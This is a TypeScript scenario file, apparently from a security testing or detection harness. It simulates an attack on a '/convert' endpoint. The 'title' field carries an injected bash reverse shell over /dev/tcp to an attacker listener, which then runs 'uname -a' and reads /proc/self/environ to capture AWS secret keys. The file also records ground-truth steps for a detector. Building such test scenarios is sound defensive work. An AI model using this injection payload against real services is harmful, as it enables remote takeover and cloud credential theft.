/** Reverse shell: a title starts a shell that takes its commands from a server of the attacker. */
import { startTcp } from '../attacker/tcp.ts';
import { Truth } from '../desk/truth.ts';
import type { Outcome, Scenario, World } from '../scenario.ts';

export const reverseShell: Scenario = {
  name: 'reverse-shell',
  what: 'a shell of the function takes commands from the attacker over a raw TCP connection',
  starts: 'address',
  hosts: [],
  run,
};

async function run(world: World): Promise<Outcome> {
  const { random } = world;
  const address = world.address();
  const handler = await startTcp(address, (socket) => {
    socket.write('uname -a\ncat /proc/self/environ\nexit\n');
  });
  world.atEnd(() => handler.stop());
  const agent = world.agent();
  const title = `${random.word(6)}";bash -c 'bash -i >& /dev/tcp/${address}/${handler.port} 0>&1';: "`;
  const answer = await world.call('POST', '/convert', { body: { title, text: random.word(20) }, agent });
  if (!handler.heard().includes('AWS_SECRET_ACCESS_KEY=')) throw new Error(`the shell did not answer: ${answer.status}`);

  const truth = new Truth()
    .asks('the injection', 'convert', answer, agent)
    .converts(answer)
    .programs('convert', answer, 'sh -c printf', 'bash -c bash -i', 'bash -i', 'uname -a', 'cat /proc/self/environ')
    .file('convert', '/proc/self/environ')
    .endpoint(`${address}:${handler.port}`);
  return { fact: { what: 'address', q: address }, entries: [answer.requestId], steps: truth.steps };
}
